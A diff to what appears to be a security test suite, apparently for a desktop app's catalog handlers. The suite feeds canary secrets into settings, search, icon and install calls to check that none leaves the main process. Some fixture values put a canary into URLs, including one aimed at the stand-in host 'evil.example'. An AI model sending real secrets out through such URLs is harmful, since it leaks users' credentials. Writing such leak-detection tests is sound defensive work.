@@ -266,6 +266,7 @@ describe('no secret ever leaves main (canary)', () => {
       'catalog.getSettings': [{}],
       'catalog.setSettings': [{ registry_url: registry.url }, { registry_url: `http://evil.example/${CANARIES.env}` }],
       'catalog.search': [{ query: 'example' }, { query: CANARIES.env, include_deprecated: true }],
+      'catalog.icon': [{ url: 'https://example.com/everything.png' }, { url: `http://127.0.0.1:9/${CANARIES.env}` }],
       'catalog.install': [
         { name: 'io.github.example/everything', version: '1.0.0', option: 'package:0', server_name: 'cat', values: { 'env:EVERYTHING_TOKEN': CANARIES.env } },
         { name: 'com.example/weather-remote', version: '2.0.0', option: 'remote:0', server_name: 'cat-remote', values: { 'url/base': 'http://127.0.0.1:9', 'header:X-Api-Key': CANARIES.header } },
